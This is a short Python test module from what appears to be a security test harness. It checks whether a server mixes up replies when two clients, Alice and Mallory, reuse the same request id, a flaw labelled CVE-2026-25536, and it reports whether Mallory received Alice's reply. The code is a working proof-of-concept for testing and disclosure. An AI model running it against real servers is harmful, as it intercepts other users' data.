"""Steals: the reply to somebody else's request.

Every client counts its requests from 1. If a server remembers who asked only by the id of the
request, it gives Alice's reply to the last client that used the same id.
"""

from attacks.finding import Finding
from attacks.target import Server, call, said

AGAINST = "server"
CASE = "CVE-2026-25536"


async def attack(server: Server) -> Finding:
    async with server.open(server.alice) as alice, server.open(server.mallory) as mallory:
        await alice.initialize()
        await mallory.initialize()
        await alice.send(call(1, "wait", seconds=0.5))
        await mallory.send(call(1, "echo", message="mine"))
        own = await mallory.reply(1)
        try:
            stolen = await mallory.next(
                lambda event: event is not own and "Waited" in event.data
            )
        except TimeoutError:
            await alice.reply(1)
            return Finding(False, "each reply came to the client that asked")
        return Finding(True, f"on Mallory's stream: {said(stolen)!r}")
